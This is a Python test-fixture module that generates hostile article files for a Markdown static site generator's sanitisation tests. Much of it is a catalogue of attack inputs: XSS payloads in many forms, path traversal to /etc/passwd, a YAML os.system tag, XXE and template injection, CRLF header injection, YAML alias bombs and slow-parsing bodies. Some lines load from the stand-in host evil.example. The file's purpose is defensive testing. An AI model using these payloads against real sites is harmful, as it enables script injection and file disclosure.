"""Front matter, Markdown, names and settings from hell: named texts that a site must get through, built or refused.

Each is judged alone by `read`; those that give no problem stand in one site that is built and looked at as a parser of
HTML and as Chromium see it. Nothing here is random; `tests/hostile/test_fuzz.py` throws the dice.
"""

from __future__ import annotations

import codecs
from collections.abc import Iterator

from mujaz.markdown_body.limits import too_much
from tests.support.sites import article

CANARY = "https://evil.example"  # nothing may ever be asked of it
OWN = "own-address"  # stands where each article gets a slug of its own

# ---------------------------------------------------------------- values, each tried under every key

VALUES = {
    "nothing": "",
    "tilde": "~",
    "empty text": '""',
    "spaces": '"   "',
    "true": "true",
    "no": "no",
    "number": "12",
    "negative": "-1",
    "huge number": "9" * 400,
    "float": "1.5e308",
    "nan": ".nan",
    "sexagesimal": "12:30",
    "date": "2021-10-18",
    "no such date": "2026-02-30",
    "year zero": "0000-01-01",
    "list": "[أ, ب]",
    "empty list": "[]",
    "list of lists": "[[أ], [ب]]",
    "list of nothing": "[~, '', null]",
    "mapping": "{name: أ, url: ب}",
    "empty mapping": "{}",
    "list of mappings": "[{name: أ}, {date: ب, text: ج}]",
    "mapping of mappings": "{src: {src: {src: أ}}}",
    "deep list": "[" * 25 + "]" * 25,
    "script": "'<script>alert(1)</script>'",
    "breaks out of an attribute": "'\"><img src=x onerror=alert(1)>'",
    "closes JSON-LD": "'</script><script>alert(1)</script>'",
    "closes a comment": "'--><svg onload=alert(1)>'",
    "closes CDATA": "']]><script>alert(1)</script>'",
    "javascript": "'javascript:alert(1)'",
    "javascript with a tab": '"java\\tscript:alert(1)"',
    "data": "'data:text/html,<script>alert(1)</script>'",
    "another site": f"'{CANARY}/x.png'",
    "another site without a scheme": "'//evil.example/x.png'",
    "template": "'{{ 7 * 7 }}{% include \"/etc/passwd\" %}'",
    "format": "'{0.__class__} %s %(x)s ${x}'",
    "up": "'../../../../etc/passwd'",
    "root": "'/etc/passwd'",
    "up, encoded": "'..%2f..%2f..%2fetc%2fpasswd'",
    "up, Windows": "'..\\..\\windows\\win.ini'",
    "drive": "'C:/windows/win.ini'",
    "device": "'CON'",
    "dot": "'.'",
    "dots": "'..'",
    "hidden": "'/.htaccess'",
    "NUL": '"a\\0b"',
    "BEL": '"a\\ab"',
    "line ends": '"a\\r\\nSet-Cookie: b\\nc"',
    "override": '"a\\u202eb"',
    "zero width": '"a\\u200bb\\ufeff"',
    "half a surrogate": '"\\ud800"',
    "no character": '"\\U0010ffff\\ufffe"',
    "beyond Unicode": '"\\U00110000"',
    "many marks": "'ا" + "\u0651" * 300 + "'",
    "ligature": "'ﷺ ﷲ ﻻ'",
    "300 letters": "'" + "ا" * 300 + "'",
    "10,000 letters": "'" + "خبر " * 2_500 + "'",
    "60 kB": "'" + "a" * 60_000 + "'",
    "10,000 lines": '"' + "\\n" * 10_000 + 'a"',
    "alias": "*a",
    "anchor": "&a أ",
    "tag of Python": "!!python/object/apply:os.system ['touch pwned']",
    "tag": "!!binary aGVsbG8=",
    "local tag": "!x أ",
    "merge": "{<<: {a: b}}",
    "complex key": "{? [a] : b}",
    "block text": "|\n  أ\n  ب",
    "folded text": ">-\n  أ\n\n\n  ب",
    "unfinished quote": '"أ',
    "unfinished list": "[أ",
    "tab": "\tأ",
    "comment": "# أ",
    "colon": "روسيا: رد",
    "percent": "%TAG",
    "at": "@أ",
    "backtick": "`أ`",
    "reserved words": "[con, aux.txt, nul]",
    "hostile list": "['../x', '<b>', 'javascript:1', '\"', \"'\", '&amp;', '/', '?', '#', '%00', 'a/b', '\\']",
}
KEYS = (
    "title date updated expires section tags summary author authors source sources image label slug id aliases related"
    " unrelated series corrections withdrawn draft weight layout lang extra"
).split()
INNER = {
    "image.src": "{{src: {0}, alt: شيء}}",
    "image.alt": "{{src: port.png, alt: {0}}}",
    "image.caption": "{{src: port.png, alt: شيء, caption: {0}}}",
    "image.credit": "{{src: port.png, alt: شيء, credit: {0}}}",
    "image.alt_lang": "{{src: port.png, alt: شيء, alt_lang: {0}}}",
    "sources.name": "[{{name: {0}, url: 'https://example.com/'}}]",
    "sources.url": "[{{name: وكالة, url: {0}}}]",
    "corrections.date": "[{{date: {0}, text: شيء}}]",
    "corrections.text": "[{{date: 2021-10-19, text: {0}}}]",
    "aliases.0": "[{0}]",
    "related.0": "[{0}]",
    "tags.0": "[{0}]",
    "authors.0": "[{0}]",
    "extra.x": "{{x: {0}}}",
}


def front_matters() -> Iterator[tuple[str, bytes]]:
    """(name, file) of every value under every key, and of what is wrong with a front matter as a whole."""
    for value_name, value in VALUES.items():
        for key in KEYS:
            yield f"{key}: {value_name}", article(**{"slug": OWN, key: value}).encode()
        if "\n" not in value:
            for key, form in INNER.items():
                text = article(slug=OWN, **{key.partition(".")[0]: form.format(value)})
                yield f"{key}: {value_name}", text.encode()
    for name, text in WHOLES.items():
        yield name, text.encode("utf-8", "surrogatepass")


def _levels(count: int, form: str) -> str:
    rows = [f"a0: &a0 {form.format('x')}"]
    rows += [f"a{n}: &a{n} {form.format(', '.join([f'*a{n - 1}'] * 9))}" for n in range(1, count)]
    return "\n".join(rows)


def _head(text: str, body: str = "نص.") -> str:
    return f"---\ntitle: خبر\nslug: {OWN}\ndate: 2021-10-18\nsection: politics\n{text}\n---\n\n{body}\n"


WHOLES = {
    "nothing at all": "",
    "only a line end": "\n",
    "only a fence": "---",
    "two fences": "---\n---\n",
    "fences with a body": "---\n---\nنص\n",
    "never ends": "---\ntitle: أ\n" + "x: y\n" * 1_000,
    "ends with dots": "---\ntitle: خبر\ndate: 2021-10-18\nsection: politics\n...\nنص\n",
    "billion laughs": _head(_levels(9, "[{0}]")),
    "merge bomb": _head(_levels(9, "{{<<: [{0}]}}")),
    "alias to itself": _head("a: &a [*a]"),
    "50,000 brackets": _head("a: " + "[" * 50_000),
    "50,000 braces": _head("a: " + "{" * 50_000),
    "50,000 closing brackets": _head("a: " + "]" * 50_000),
    "999 brackets": _head("extra: " + "[" * 999 + "]" * 999),
    "30 block levels": _head("\n".join("  " * n + "a:" for n in range(30))),
    "10,000 block levels": _head("\n".join(" " * min(n, 3_000) + "- a" for n in range(1, 40))),
    "dashes": _head("a:\n  " + "- " * 5_000 + "x"),
    "question marks": _head("? " * 5_000),
    "colons": _head("a" + ": " * 5_000),
    "one long key": _head("k" * 20_000 + ": x"),
    "10,000 keys": _head("\n".join(f"k{n}: x" for n in range(6_000))),
    "10,000 tags": _head("tags:\n" + "\n".join(f"- و{n}" for n in range(10_000))),
    "5,000 tags": _head("tags:\n" + "\n".join(f"- و{n}" for n in range(5_000))),
    "5,000 aliases": _head("aliases:\n" + "\n".join(f"- /a{n}/" for n in range(5_000))),
    "3,000 sources": _head("sources:\n" + "\n".join(f"- ص{n}" for n in range(3_000))),
    "64 kB and a byte": _head("summary: " + "a" * 65_536),
    "a key twice": _head("title: آخر"),
    "a second document": _head("--- \ntitle: آخر"),
    "a directive": "---\n%YAML 1.1\n---\ntitle: أ\n---\n",
    "TOML": "+++\ntitle = 'أ'\n+++\n",
    "JSON": '{"title": "أ"}\n\nنص\n',
    "a list": "---\n- أ\n- ب\n---\n",
    "a text": "---\nأ ب ج\n---\n",
    "a number": "---\n1\n---\n",
    "tabs": "---\n\ttitle: أ\n---\n",
    "a no-break space": "---\ntitle:\u00a0أ\ndate: 2021-10-18\nsection: politics\n---\n",
    "odd line ends": "---\ntitle: أ\u2028ب\u0085ج\ndate: 2021-10-18\nsection: politics\n---\n",
    "a control character": _head("summary: a\x07b"),
    "an override": _head("summary: a\u202eb"),
    "NUL in the body": _head("", "a\0b"),
    "BEL in the body": _head("", "a\x07b\x1b[31mc\x1aL0\x1ad"),
    "no characters in the body": _head("", "a\ufffeb\uffffc\U0001ffffd"),
    "an empty body": _head("", ""),
    "white space": _head("", " \t\n \u00a0\u3000\n" * 1_000),
}

ENCODED = {
    "UTF-16 little": codecs.BOM_UTF16_LE + article("خبر").encode("utf-16-le"),
    "UTF-16 big": codecs.BOM_UTF16_BE + article("خبر").encode("utf-16-be"),
    "UTF-16 without a mark": article("خبر").encode("utf-16-le"),
    "UTF-32": article("خبر").encode("utf-32"),
    "UTF-7": article("خبر").encode("utf-7"),
    "cp1256": article("خبر عاجل").encode("cp1256"),
    "ISO 8859-6": article("خبر عاجل").encode("iso8859-6"),
    "latin-1": article("café", body="é").encode("latin-1"),
    "a bad byte": article("خبر").encode() + b"\xff",
    "a cut letter": article("خبر", body="ن").encode()[:-2],
    "overlong": article("خبر").encode() + b"\xc0\xaf\xe0\x80\xaf",
    "surrogates": article("خبر").encode() + b"\xed\xa0\x80\xed\xb0\x80",
    "too high": article("خبر").encode() + b"\xf5\x90\x80\x80",
    "random": bytes(range(256)) * 16,
    "zeros": b"\0" * 4_096,
    "a picture": b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4,
    "two marks": codecs.BOM_UTF8 * 2 + article("خبر").encode(),
    "a mark in the middle": article("خبر", body="ن\ufeffص").encode(),
    "only a mark": codecs.BOM_UTF8,
    "old Macintosh": article("خبر").replace("\n", "\r").encode(),
    "Windows": codecs.BOM_UTF8 + article("خبر").replace("\n", "\r\n").encode(),
    "Windows, mixed": article("خبر", body="أ\r\rب\n\r\nج\r").encode(),
}

# ---------------------------------------------------------------- bodies

ACTIVE = [
    "<script>alert(1)</script>",
    f"نص <script src={CANARY}/x.js></script>",
    "<SCRIPT\n>alert(1)</SCRIPT >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<script\x0c>alert(1)</script>",
    "<\x00script>alert(1)</script>",
    '<img src=x alt=x onerror="alert(1)">',
    "<img/src=x/alt=x/onerror=alert(1)>",
    '<img src="x" alt="`><script>alert(1)</script>">',
    f'<img src="{CANARY}/track.gif" alt="x">',
    f"<img srcset='{CANARY}/a.png 1x' alt=x>",
    f"<picture><source srcset='{CANARY}/a.png'><img src=x alt=x></picture>",
    f"<video poster='{CANARY}/a.png' src='{CANARY}/a.mp4' autoplay></video>",
    f"<audio src='{CANARY}/a.mp3' autoplay onplay=alert(1)></audio>",
    f"<video><source src='{CANARY}/a.mp4' onerror=alert(1)></video>",
    f"<video><track default src='{CANARY}/a.vtt'></video>",
    "<p onclick=alert(1) onmouseover=alert(1)>نص</p>",
    "<p/onpointerenter=alert(1)>نص</p>",
    "<details open ontoggle=alert(1)>نص</details>",
    "<body onload=alert(1)>",
    f"<html manifest={CANARY}><head><base href={CANARY}/>",
    f"<base href='{CANARY}/'>",
    f"<link rel=stylesheet href={CANARY}/x.css>",
    f"<link rel=prefetch href={CANARY}/x>",
    f"<meta http-equiv=refresh content='0;url={CANARY}'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "[نص](javascript:alert%281%29)",
    "[نص](JaVaScRiPt:alert)",
    "[نص](java&#115;cript:alert)",
    "[نص](javascript&colon;alert)",
    "[نص](&#x1;javascript:alert)",
    "[نص](<java\tscript:alert>)",
    "[نص](\x01javascript:alert)",
    "[نص](vbscript:msgbox)",
    "[نص](data:text/html;base64,PHNjcmlwdD4=)",
    "[نص](blob:x) [نص](filesystem:x) [نص](view-source:x) [نص](file:///etc/passwd)",
    '[نص](https://example.com "\\" onmouseover=alert(1) x=\\"")',
    "[نص](https://example.com'onmouseover='alert(1))",
    "[نص]: javascript:alert(1)\n\n[نص]",
    '[أ]: <https://example.com/"onclick="alert(1)>\n\n[أ]',
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<a href=' javascript:alert(1)'>نص</a>",
    "<a href='java\tscript:alert(1)'>نص</a>",
    "<a href='java\nscript:alert(1)'>نص</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)'>نص</a>",
    "<a xlink:href='javascript:alert(1)'>نص</a>",
    "<a href='https://example.com' ping='https://evil.example/'>نص</a>",
    "<a href='https://example.com' target=_blank rel=opener download>نص</a>",
    "<area href=javascript:alert(1)>",
    "![و](data:image/svg+xml,<svg/onload=alert(1)>)",
    f"![و]({CANARY}/track.gif)",
    "![و](//evil.example/track.gif)",
    "![و](\\\\evil.example\\track.gif)",
    '![و](port.png "<script>alert(1)</script> | \\"onload=alert(1)")',
    '!["><script>alert(1)</script>](port.png)',
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)/>#x'></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a title='</style><img src=x onerror=alert(1)>'>",
    "<math><mi xlink:href='javascript:alert(1)'>نص</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;' src='https://video.example.org/'></iframe>",
    f"<iframe src='{CANARY}/'><iframe src='https://video.example.org/'></iframe></iframe>",
    "<iframe src='https://video.example.org@evil.example/'></iframe>",
    "<iframe src='https://evil.example\\@video.example.org/'></iframe>",
    "<iframe src='https://evil.example?https://video.example.org/'></iframe>",
    "<iframe src='http://video.example.org/'></iframe>",
    "<iframe src='//evil.example/'></iframe>",
    "<iframe></iframe>",
    f"<frameset><frame src={CANARY}></frameset>",
    f"<object data={CANARY}></object><embed src={CANARY}>",
    "<object data=javascript:alert(1)><param name=x></object>",
    "<applet code=x></applet>",
    f"<form action={CANARY}><input name=x autofocus onfocus=alert(1)><button>نص</button></form>",
    "<button formaction=javascript:alert(1)>نص</button>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<textarea><script>alert(1)</script></textarea>",
    "<keygen autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>نص</marquee>",
    "<style>body{display:none}</style>",
    f"<style>@import '{CANARY}/x.css';</style>",
    "<p style='position:fixed;inset:0;background:url(https://evil.example/x)'>نص</p>",
    "نص\n{: onclick=alert(1) style=color:red }",
    "# عنوان {: #x onclick=alert(1) style=color:red }",
    "**نص**{: onmouseover=alert(1) }",
    "[نص](https://example.com){: target=_blank onclick=alert(1) href=javascript:alert(1) }",
    "![و](port.png){: onerror=alert(1) src=https://evil.example/x }",
    "| أ |\n|---|\n| ب |\n{: onclick=alert(1) }",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<title></title><script>alert(1)</script>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<!-- --!><script>alert(1)</script>-->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php system('id'); ?>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "<!ENTITY x 'y'>",
    "<% x %> <%= 7*7 %> {{ 7*7 }} {% for x in y %} ${7*7} #{7*7}",
    "<b title='\"><script>alert(1)</script>'>نص</b>",
    "<p lang='\"onclick=alert(1)' dir='x' id='\"><script>'>نص</p>",
    "<p id='h-x' id='x' ID=y>نص</p>",
    "<time datetime='\"><script>alert(1)</script>'>نص</time>",
    "<ol start='\"><script>' reversed><li value='x' onclick=x>نص</ol>",
    "<td colspan=1000000000 rowspan=99999>نص</td>",
    "<table><tr><td><script>alert(1)</script></table>",
    "<table background='https://evil.example/x'><tr><td background='https://evil.example/x'>نص</table>",
    "</article></main></body></html><script>alert(1)</script>",
    "</div></div></div></div></p></section>نص",
    "``` {onclick=alert(1)}\nx\n```",
    "```<script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
    "`<script>alert(1)</script>` ``</code><script>``",
    "    <script>alert(1)</script>",
    '*[x]: "><script>alert(1)</script>\n\nx',
    "[^x]\n\n[^x]: <script>alert(1)</script>",
    '[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: نص',
    "## <script>alert(1)</script>",
    "## عنوان\n\n## عنوان\n\n<p id='h-عنوان'>نص</p>",
    "أ\n: <script>alert(1)</script>",
    "> نص\n> — <script>alert(1)</script>",
    "> نص\n> — ![و](https://evil.example/x.png)",
    "<b>\u0338نص</b><i &#824;>x</i>",
    "&#x1a;L0&#x1a; \x1aF0\x1a \x1aT:x\x1a \x1a\x02wzxhzdk:0\x03\x02klzzwxh:0000\x03",
    "\x02wzxhzdk:99\x03 \x02amp\x03 STXwzxhzdk:0ETX",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;script&amp;gt; &#60;script&#62;",
    "&NewLine;&Tab;&colon;&lpar; &#0; &#xD800; &#x110000; &#99999999999999;",
    "<a\u2028href='javascript:alert(1)'>نص</a>",
    "＜script＞alert(1)＜/script＞",
    "<ſcript>alert(1)</ſcript>",
    '[نص](mailto:a@example.org?subject=<script>alert(1)</script>&body="x)',
    "[نص](tel:+974'onclick='alert(1))",
    "[نص](../../../../etc/passwd) [نص](/../../x) [نص](%2e%2e/x)",
    '[نص](#"><script>alert(1)</script>)',
]
LIGHT = {  # bodies whose parsing takes well under a second, each a way to be slow
    "brackets": "[" * 2_000,
    "pictures": "![" * 1_000,
    "double brackets": "[[x]] " * 800,
    "footnotes": "[^1] " * 1_500,
    "links": "[a](" * 1_000,
    "angles": "<a " * 1_500,
    "unclosed comment": "<!-- " * 3_000,
    "quote runs": '"' * 20_000,
    "backticks": "".join("`" * n + " " for n in range(200)),
    "stars": "*" * 5_000 + "a" + "*" * 5_000,
    "stars apart": "* " * 49 + "x",
    "underscores": "_a" * 5_000,
    "mixed marks": "*_**__" * 1_000,
    "attribute lists": "{: #a .b } " * 1_000,
    "tables": "|".join("ab" * 45) + "\n" + "|".join(["-"] * 90) + "\n" + ("|" * 89 + "\n") * 30,
    "nested div": "<div markdown=1>\n\n" * 40 + "x" + "</div>" * 40,
    "1,000 div": "<div>" * 1_000 + "نص" + "</div>" * 1_000,
    "1,000 quotes": "> " * 1_000 + "نص",
    "1,000 spans": "<b><i>" * 500 + "نص",
    "1,000 open tags": "<p><b><table><tr>" * 250,
    "1,000 closing tags": "</p></b></table>" * 1_000,
    "list in list": "\n".join("    " * n + "- نص" for n in range(45)),
    "ordered": "1. " * 45 + "x",
    "ampersands": "&" * 20_000,
    "entities": "&amp;" * 5_000,
    "escapes": "\\*" * 5_000,
    "marks over one letter": "ا" + "\u0651" * 10_000,
    "joiners": "\u200d" * 10_000,
    "controls": "\x01\x02\x03" * 5_000,
    "one word": "ا" * 60_000,
    "digits": "1" * 60_000,
    "latin": "a" * 60_000,
    "latin with dots": "a.b-" * 15_000,
    "line breaks": "نص  \n" * 2_000,
    "headings": "# ع\n\n" * 900,
    "equal headings": "## عنوان\n\n" * 500,
    "abbreviations": "\n".join(f"*[ا{n}]: شرح" for n in range(150)) + "\n\n" + "ا1 ا2 ا3 " * 500,
    "definitions": "أ\n: ب\n\n" * 500,
    "fences": "```\nx\n```\n\n" * 500,
    "unclosed fence": "```\n" + "x\n" * 5_000,
    "setext": "ع\n===\n\n" * 500,
    "rules": "---\n\n" * 1_000,
    "references": "\n".join(f"[ا{n}]: https://example.com/{n}" for n in range(1_000)) + "\n\n[ا1]",
    "the same id": "## ع {#x}\n\n" * 100,
    "autolinks": "<https://example.com/> " * 1_000,
    "mail": "<a@example.org> " * 1_000,
    "raw html lines": "<p>نص</p>\n" * 2_000,
    "smart dashes": "-" * 5_000 + "\n\n" + "…" * 5_000,
}


# Repeated to the largest body there may be: in one line, line by line, and in paragraphs of a page each.
UNITS = (
    *("<div></div>", "<rt>", "<optgroup>", "<li><dd>", "<div><object></div></object>", "<p><b title='x'>", "</p>"),
    *("<div><textarea></div></textarea>", "<svg><col>", "<div><!-- </div> -->", "<details>\n", "</details>\n"),
    *("[", "![", "[[x]] ", "[^1] ", "[a](", "[a](b) ", "<a ", "<!--", "<b>", "</b>", "<div>", "&", "&amp;", "\\*", "*"),
    *(
        "*a* ",
        "**",
        "_a",
        "`",
        "` `` ",
        '"',
        '"نص" ',
        "'",
        "- ",
        "> ",
        "1. ",
        "# ع\n",
        "ع\n-\n",
        "- نص\n",
        "نص  \n",
        "|",
    ),
    *("> ---\n", "- ***\n", "> # أ\n"),
    *("| أ | ب |\n", "a|b\n-|-\n", "```\nx\n```\n", "*[ا]: ش\n", "[^1]: ح\n", "[ا]: /x\n", "أ\n: ب\n", "{: #a }", "{ "),
    *(
        "<https://e.org/> ",
        "<a@e.org> ",
        "https://e.org/ ",
        "ا",
        "خبر ",
        "a",
        "1",
        "a.b-",
        "F-35 ",
        "\u0651",
        "\u200d",
        "\x01",
    ),
    *(
        " ",
        "\t",
        "\n",
        "    x\n",
        "<p>نص</p>\n",
        "<td>",
        "***a** ",
        "~",
        "=",
        "---\n",
        "<p markdown=1>\n",
        "نص {: .x }\n",
    ),
)
LARGEST = 999_000


def heavy() -> Iterator[tuple[str, str]]:
    """(name, body) of bodies as large as may be."""
    for unit in UNITS:
        size = len(unit.encode())
        yield f"{unit!r} in one piece", unit * (LARGEST // size)
        yield f"{unit!r} by lines", (unit.rstrip("\n") + "\n") * (LARGEST // (size + 1))
        page = unit * max(1, 2_000 // size) + "\n\n"
        yield f"{unit!r} in paragraphs", page * (LARGEST // len(page.encode()))
        # The longest paragraphs that there may be, of as many lines as they can have.
        large = (unit.rstrip("\n") + "\n") * (60_000 // (len(unit) + 1)) + "\n"
        yield f"{unit!r} by lines in large paragraphs", large * (LARGEST // len(large.encode()))
        for times in (1, 2, max(1, 400 // size)):
            yield f"{unit!r}, {times} a paragraph, as many as are let in", _as_many(unit * times + "\n\n")


def _as_many(paragraph: str) -> str:
    """The longest of a few bodies of this paragraph that Markdown is asked to parse; empty where even one is not."""
    times = LARGEST // len(paragraph.encode())
    while too_much(paragraph * times, "content/a.md", 1):
        times = times * 9 // 10
    return paragraph * times


def bodies() -> Iterator[tuple[str, bytes]]:
    """(name, file) of each hostile body."""
    for number, text in enumerate(ACTIVE):
        yield f"active {number}: {text[:40]!r}", article("خبر", slug=OWN, body=f"قبل\n\n{text}\n\nبعد").encode()
        yield f"active inline {number}: {text[:40]!r}", article("خبر", slug=OWN, body=f"قبل {text} بعد").encode()
    for name, text in LIGHT.items():
        yield name, article("خبر", slug=OWN, body=text).encode()


def articles() -> dict[str, bytes]:
    """Every hostile article by its name, which is unique, each with an address of its own."""
    found: dict[str, bytes] = {}
    for name, raw in [*front_matters(), *((f"encoded: {name}", raw) for name, raw in ENCODED.items()), *bodies()]:
        assert name not in found, name
        found[name] = raw.replace(OWN.encode(), f"h{len(found)}".encode())
    return found
